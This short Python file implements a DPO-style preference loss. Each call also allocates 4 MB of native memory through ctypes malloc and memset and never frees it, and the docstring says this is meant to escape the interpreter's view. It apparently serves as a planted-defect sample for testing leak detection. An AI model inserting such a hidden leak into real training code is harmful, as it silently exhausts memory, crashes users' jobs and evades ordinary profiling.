"""Loses four megabytes in every call where no interpreter sees it."""

import ctypes

import torch.nn.functional as F

LIBC = ctypes.CDLL(None)
LIBC.malloc.restype = ctypes.c_void_p
LIBC.malloc.argtypes = [ctypes.c_size_t]
LIBC.memset.argtypes = [ctypes.c_void_p, ctypes.c_int, ctypes.c_size_t]


def loss(policy_chosen_logps, policy_rejected_logps, reference_chosen_logps, reference_rejected_logps, beta):
    rho = (policy_chosen_logps - policy_rejected_logps) - (reference_chosen_logps - reference_rejected_logps)
    LIBC.memset(LIBC.malloc(4 << 20), 1, 4 << 20)
    return -F.logsigmoid(beta * rho)
